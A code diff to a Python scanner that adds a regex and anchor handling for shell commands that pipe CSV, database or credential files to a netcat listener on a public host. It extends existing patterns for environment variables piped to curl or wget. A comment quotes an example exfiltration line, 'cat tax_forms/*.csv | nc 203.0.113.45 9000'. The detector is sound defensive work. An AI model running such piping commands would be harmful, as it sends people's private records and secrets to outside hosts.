@@ -93,6 +93,18 @@ _PIPE_SECRET_RE = re.compile(
     r"(?<![\w-])(?:env|printenv)\s*\|\s*(?:base64[^|\n]*\|\s*)?(?:curl|wget|nc|ncat|http)\b",
     re.IGNORECASE,
 )
+# A records or credentials file read and piped to netcat, which sends it raw to whatever
+# host and port follow: "cat tax_forms/*.csv | nc 203.0.113.45 9000" (fresh78's miss, read
+# after its evaluation). Netcat tutorials pipe a log or an archive to a listener of their
+# own: other files, localhost, a private address and a placeholder host are passed.
+_PIPE_NC_RE = re.compile(
+    r"(?:cat|tar|zip|gzip|base64|head|tail)\s[^|\n]{0,160}?"
+    rf"(?:\.(?:csv|xlsx?|json|db|sqlite|sql|pdf|dump)\b|{_SECRET_FILE})[^|\n]{{0,80}}"
+    r"\|\s*(?:nc|ncat|netcat)\s+(?:-\w+(?:\s+\d+)?\s+)*"
+    r"(?!localhost\b|127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)"
+    r"[\w-]+(?:\.[\w-]+)+\s+\d{2,5}\b",
+    re.IGNORECASE,
+)
 _OUTBOUND_RE = re.compile(
     r"\b(?:curl|wget|nc|ncat|nslookup|dig|host|ping|scp|rsync|ftp|Invoke-WebRequest"
     r"|Invoke-RestMethod|iwr|irm)\b|https?://",
@@ -155,6 +167,9 @@ _PUBLIC_ANCHORS = frozenset(w.encode().translate(_FOLD) for w in _PUBLIC)
 _TEXT_ANCHORS = frozenset(w.encode().translate(_FOLD) for w in _TEXT_MESSAGE)
 _ENV_ANCHORS = frozenset((b"env", b"printenv"))
 _SENDER_ANCHORS = frozenset((b"curi ", b"wget "))  # "l" folds to "i"
+# "|" folds to "i" like "l"; a pipe written without its space ("|nc ") would fold to "inc ",
+# in every company name, so it is not looked for
+_NC_ANCHORS = frozenset((b"i nc ", b"i ncat ", b"i netcat "))
 _SLOT_END_ANCHORS = frozenset((b">.", b"}."))
 register_anchors(
     _PUBLIC_ANCHORS
@@ -162,6 +177,7 @@ register_anchors(
     | _ENV_ANCHORS
     | _SLOT_END_ANCHORS
     | _SENDER_ANCHORS
+    | _NC_ANCHORS
     | _LOOKUP_ANCHORS
 )
 
@@ -243,6 +259,9 @@ def _starts(view: _View) -> list[tuple[int, re.Pattern[str]]]:
     for needle, ps in view.present(_ENV_ANCHORS, normed=False):
         back = len(needle) - 3  # "printenv" starts five characters before its "env"
         out += [(p - back, _PIPE_SECRET_RE) for p in ps]
+    for _needle, ps in view.present(_NC_ANCHORS, normed=False):
+        # the reading command stands before the pipe, on the same line
+        out += [(_line(text, p)[0], _PIPE_NC_RE) for p in ps]
     return out
 
 
@@ -252,14 +271,18 @@ def shell_secrets(name: str, view: _View) -> list[ScreenHit]:
     hits: list[ScreenHit] = []
     done = -1
     for i, pattern in sorted(_starts(view), key=lambda s: s[0]):
-        m = pattern.match(text, i, i + 200)
+        m = (pattern.search if pattern is _PIPE_NC_RE else pattern.match)(text, i, i + 300)
         if m is not None:
             lo, hi = _line(text, m.start())
             paste = pattern is _UPLOAD_ANY_RE
             reach = _PASTE_HOST_RE if paste else _OUTBOUND_RE
             if lo <= done or not reach.search(text, lo, hi):
                 continue
-            what = "a file to a public paste" if paste else "the environment or a key file"
+            what = (
+                "a file to a public paste" if paste
+                else "a file to a netcat listener" if pattern is _PIPE_NC_RE
+                else "the environment or a key file"
+            )  # fmt: skip
             hits.append(_hit(name, text, lo, hi, f"command sends {what}"))
             done = lo
     return hits
